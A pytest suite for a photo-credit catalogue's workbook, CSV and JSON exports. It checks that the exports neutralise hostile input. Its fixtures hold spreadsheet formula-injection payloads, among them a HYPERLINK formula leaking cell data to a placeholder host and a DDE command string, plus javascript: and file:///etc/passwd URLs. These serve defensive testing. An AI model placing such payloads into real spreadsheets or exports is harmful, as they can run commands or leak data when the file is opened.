"""The workbook, CSV and JSON exports, read back the way a user's tools would read them."""

from __future__ import annotations

import csv
import json
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest

from credits import export
from credits.catalogue import Catalogue
from credits.columns import COLUMNS
from credits.errors import ExportError
from credits.models import Article, Credit, Entry

# Text a spreadsheet would run as a formula if it were written as one.
PAYLOADS = (
    '=HYPERLINK("http://x/?"&A1,"Details")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
)
DPA = Credit("© Kay Nietfeld/dpa", ("Kay Nietfeld",), ("dpa",), None, frozenset())
# Payloads in every field that reaches a sheet: names, agency, credit, titles.
EVIL = Credit(PAYLOADS[1], (PAYLOADS[4],), (PAYLOADS[2],), PAYLOADS[3], frozenset())


def make_article(
    number: int, url: str | None, captions: list[str], credit=DPA, title: str = ""
) -> Article:
    entries = tuple(
        Entry(position, "gallery", None, title or f"Image {position}", caption, credit, position)
        for position, caption in enumerate(captions, start=1)
    )
    published = datetime(2025, 8, number, 10, 0, tzinfo=UTC)
    heading = title or f"Article {number}"
    return Article(f"id-{number}", f"a{number}.txt", url, heading, published, "Ex", entries)


def entry_rows(*articles: Article) -> list[tuple]:
    """The articles' entries as the catalogue streams them: COLUMNS, then the image key."""
    with Catalogue(":memory:") as catalogue:
        for article in articles:
            catalogue.add(article)
        return list(catalogue.iter_rows(with_image_key=True))


@pytest.fixture(scope="module")
def hostile() -> list[tuple]:
    return entry_rows(
        make_article(1, "https://news.example/1?a=1&b=<2>", list(PAYLOADS)),
        make_article(2, "javascript:alert(1)", ["bell\x07 nul\x00 bom\ufffe end", "x" * 40_000]),
        make_article(3, "file:///etc/passwd", ["plain"], credit=None),
        make_article(4, None, ["evil"], credit=EVIL, title=PAYLOADS[0]),
    )


@pytest.fixture(scope="module")
def workbook_path(hostile: list[tuple], tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("book") / "report.xlsx"
    export.write_workbook(path, hostile, created=datetime(2025, 9, 1, 8, 0, tzinfo=UTC))
    return path


@pytest.fixture(scope="module")
def book(workbook_path: Path) -> openpyxl.Workbook:
    return openpyxl.load_workbook(workbook_path)


SHEETS = ["Summary", "Agencies", "Photographers", "Articles", "Entries", "Missing credits"]


def test_sheets_in_order(book) -> None:
    assert book.sheetnames == [*SHEETS, "By month"]


@pytest.mark.parametrize(
    ("sheet", "headers"),
    [
        ("Summary", ["Measure", "Value"]),
        ("Agencies", [c.header for c in export.AGENCY_COLUMNS]),
        ("Photographers", [c.header for c in export.PHOTOGRAPHER_COLUMNS]),
        ("Articles", [c.header for c in export.ARTICLE_COLUMNS]),
        ("Entries", list(COLUMNS)),
        ("Missing credits", [c.header for c in export.MISSING_COLUMNS]),
        ("By month", [c.header for c in export.MONTH_COLUMNS]),
    ],
)
def test_every_sheet_has_bold_frozen_filtered_header(book, sheet, headers) -> None:
    sheet = book[sheet]
    row = next(sheet.iter_rows(min_row=1, max_row=1))
    assert [cell.value for cell in row][: len(headers)] == headers
    assert all(cell.font.b for cell in row[: len(headers)])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref is not None and sheet.auto_filter.ref.startswith("A1:")
    assert all(sheet.column_dimensions[letter].width > 5 for letter in "AB")


@pytest.mark.parametrize(
    ("sheet", "first_row"),
    [
        # "\t=1+1" and "\r=1+1" are one picture: the image key ignores the whitespace.
        ("Agencies", ("dpa", 9, 8, 2, 1)),
        ("Photographers", ("Kay Nietfeld", "dpa", 9, 8, 2)),
        ("Articles", (PAYLOADS[0], None, datetime(2025, 8, 4, 10, 0))),
        ("Missing credits", ("no credit", "Article 3", "file:///etc/passwd")),
        ("By month", (datetime(2025, 8, 1), "dpa", 9, 8, 2)),
    ],
)
def test_every_sheet_holds_its_own_rows(book, sheet, first_row) -> None:
    row = next(book[sheet].iter_rows(min_row=2, max_row=2, values_only=True))
    assert row[: len(first_row)] == first_row


def test_autofilter_covers_every_row(book) -> None:
    assert book["Entries"].auto_filter.ref == "A1:Q12"
    assert book["Entries"].max_row == 12


def test_summary_numbers_and_chart(book) -> None:
    summary = {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True) if row[0]}
    assert summary["Image entries"] == 11
    assert summary["Entries without credit"] == 1
    assert summary["Missing-credit rate"] == pytest.approx(1 / 11)
    assert summary["First publication (UTC)"] == datetime(2025, 8, 1, 10, 0)
    (chart,) = book["Summary"]._charts
    assert chart.tagname == "barChart"


def test_document_properties(book) -> None:
    assert book.properties.title == export.TITLE
    assert book.properties.created == datetime(2025, 9, 1, 8, 0)


def test_dates_are_real_dates(book) -> None:
    cell = book["Entries"]["E2"]
    assert cell.value == datetime(2025, 8, 1, 10, 0)
    assert cell.is_date and "yyyy" in cell.number_format
    assert book["Agencies"]["G2"].is_date


def test_formula_payloads_stay_text(book, workbook_path) -> None:
    captions = [row[10] for row in book["Entries"].iter_rows(min_row=2, values_only=True)]
    assert captions[: len(PAYLOADS)] == list(PAYLOADS)
    for row in book["Entries"].iter_rows(min_row=2, max_row=len(PAYLOADS) + 1):
        assert row[10].data_type == "s"
    with zipfile.ZipFile(workbook_path) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/s")]
        assert all("<f>" not in archive.read(name).decode() for name in sheets)


@pytest.mark.parametrize(
    ("sheet", "column", "payload"),
    [
        ("Entries", "article_title", PAYLOADS[0]),
        ("Entries", "credit", PAYLOADS[1]),
        ("Entries", "agencies", PAYLOADS[2]),
        ("Entries", "distributor", PAYLOADS[3]),
        ("Entries", "photographers", PAYLOADS[4]),
        ("Agencies", "Agency", PAYLOADS[2]),
        ("Photographers", "Photographer", PAYLOADS[4]),
        ("Articles", "Title", PAYLOADS[0]),
        ("By month", "Agency", PAYLOADS[2]),
    ],
)
def test_payloads_stay_text_in_every_sheet(book, sheet, column, payload) -> None:
    rows = book[sheet].iter_rows()
    index = [cell.value for cell in next(rows)].index(column)
    cells = [row[index] for row in rows if row[index].value == payload]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_illegal_characters_are_removed_and_long_text_cut(book) -> None:
    rows = list(book["Entries"].iter_rows(min_row=2, values_only=True))
    assert rows[len(PAYLOADS)][10] == "bell nul bom end"
    cut = rows[len(PAYLOADS) + 1][10]
    assert len(cut) <= export.CELL_LIMIT and cut.startswith("xxx")
    assert cut.endswith(export.CUT_MARKER.format(count=40_000 - len(cut.split(" […")[0])))


def test_only_http_urls_are_links(book) -> None:
    entries = book["Entries"]
    linked = {
        row[2].value: row[2].hyperlink.target if row[2].hyperlink else None
        for row in entries.iter_rows(min_row=2)
    }
    assert linked == {
        "https://news.example/1?a=1&b=<2>": None,  # angle brackets: not a valid link
        "javascript:alert(1)": None,
        "file:///etc/passwd": None,
        None: None,
    }


def test_links_stop_at_the_cap_but_text_stays(tmp_path, monkeypatch) -> None:
    monkeypatch.setattr(export, "LINK_LIMIT", 2)
    articles = [make_article(n, f"https://news.example/{n}", ["a", "b"]) for n in (1, 2)]
    path = export.write_workbook(tmp_path / "links.xlsx", entry_rows(*articles))
    entries = openpyxl.load_workbook(path)["Entries"]
    cells = [row[2] for row in entries.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == ["https://news.example/1"] * 2 + [
        "https://news.example/2"
    ] * 2
    assert [cell.hyperlink.target if cell.hyperlink else None for cell in cells] == [
        "https://news.example/1",
        "https://news.example/1",
        None,
        None,
    ]


def test_long_sheet_continues_on_numbered_sheets(tmp_path, monkeypatch) -> None:
    monkeypatch.setattr(export, "ROW_LIMIT", 4)  # header + 3 rows per sheet
    captions = [f"caption {n}" for n in range(1, 9)]
    path = export.write_workbook(
        tmp_path / "split.xlsx", entry_rows(make_article(1, None, captions))
    )
    book = openpyxl.load_workbook(path)
    names = ["Entries", "Entries (2)", "Entries (3)"]
    assert [name for name in book.sheetnames if name.startswith("Entries")] == names
    found = []
    for name in names:
        sheet = book[name]
        assert sheet.freeze_panes == "A2"
        assert next(sheet.iter_rows(max_row=1, values_only=True)) == COLUMNS
        found += [row[10] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert found == captions
    assert [book[name].max_row for name in names] == [4, 4, 3]
    assert book["Entries (3)"].auto_filter.ref == "A1:Q3"


def test_empty_catalogue_gives_a_workbook_of_headers(tmp_path) -> None:
    path = export.write_workbook(tmp_path / "empty.xlsx", entry_rows())
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == [*SHEETS, "By month"]
    assert book["Entries"].max_row == 1


def test_unwritable_target_is_an_export_error(tmp_path, hostile) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(ExportError, match=r"report\.xlsx: cannot (write|create)"):
        export.write_workbook(blocker / "report.xlsx", hostile)
    assert list(tmp_path.iterdir()) == [blocker]  # nothing half-written left behind


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


def test_csv_round_trip(tmp_path, hostile) -> None:
    folder = export.write_csv(tmp_path / "csv", hostile)
    assert sorted(path.name for path in folder.iterdir()) == [
        "agencies.csv",
        "articles.csv",
        "by_month.csv",
        "entries.csv",
        "missing_credits.csv",
        "photographers.csv",
    ]
    assert (folder / "entries.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    header, *rows = read_csv(folder / "entries.csv")
    assert header == list(COLUMNS)
    assert len(rows) == len(hostile)
    for row, source in zip(rows, hostile, strict=True):
        for text, value in zip(row, source[: len(COLUMNS)], strict=True):
            expected = export.clean_text(value)
            if isinstance(value, datetime):
                expected = value.astimezone(UTC).replace(tzinfo=None).isoformat(sep=" ")
            assert text == export.csv_safe(expected)
    captions = [row[COLUMNS.index("caption")] for row in rows[: len(PAYLOADS)]]
    assert captions == ["'" + payload for payload in PAYLOADS]
    agencies = read_csv(folder / "agencies.csv")
    assert agencies[0][:3] == ["agency", "uses", "images"]
    assert agencies[1][:2] == ["dpa", "9"]
    problems = read_csv(folder / "missing_credits.csv")
    assert [row[0] for row in problems[1:]] == ["no credit"]


def test_json_round_trip(tmp_path, hostile) -> None:
    path = export.write_json(tmp_path / "entries.json", hostile)
    records = json.loads(path.read_text(encoding="utf-8"))
    assert len(records) == len(hostile)
    assert all(list(record) == list(COLUMNS) for record in records)
    first = records[0]
    assert first["caption"] == PAYLOADS[0]
    assert first["agencies"] == ["dpa"] and first["photographers"] == ["Kay Nietfeld"]
    assert first["published"] == "2025-08-01T10:00:00Z"
    assert records[-2]["credit"] is None and records[-2]["flags"] == ["missing"]
    assert records[-1]["credit"] == PAYLOADS[1] and records[-1]["agencies"] == [PAYLOADS[2]]


@pytest.mark.parametrize(
    ("text", "kept", "dropped"),
    [
        # 32,767 units hold 32,742 of text and the 25 of " […cut: 40000 characters]".
        ("x" * 40_000, "x", 40_000 - 32_742),
        ("😀" * 20_000, "😀", 40_000 - 32_742),  # two UTF-16 units each, pairs kept whole
        ("x" + "😀" * 20_000, "x😀", 40_001 - 32_741),  # the pair at the cut goes whole
        ("short", "short", 0),
    ],
)
def test_clean_text_cuts_to_a_cell(text, kept, dropped) -> None:
    cut = export.clean_text(text)
    assert len(cut.encode("utf-16-le")) // 2 <= export.CELL_LIMIT  # raises on a split pair
    assert cut.startswith(kept)
    marker = export.CUT_MARKER.format(count=dropped)
    assert cut.endswith(marker) if dropped else cut == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+49 30 1234", "'+49 30 1234"),
        ("-", "'-"),
        ("@user", "'@user"),
        ("\tx", "'\tx"),
        ("Kay Nietfeld", "Kay Nietfeld"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_csv_safe(text, expected) -> None:
    assert export.csv_safe(text) == expected


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://news.example/a", True),
        ("HTTP://NEWS.EXAMPLE/A?x=1&y=2", True),
        ("javascript:alert(1)", False),
        ("file:///etc/passwd", False),
        ("ftp://news.example/a", False),
        ("https://news.example/a b", False),
        ("https://news.example/" + "a" * 2_100, False),
    ],
)
def test_is_linkable(url, expected) -> None:
    assert export.is_linkable(url) is expected
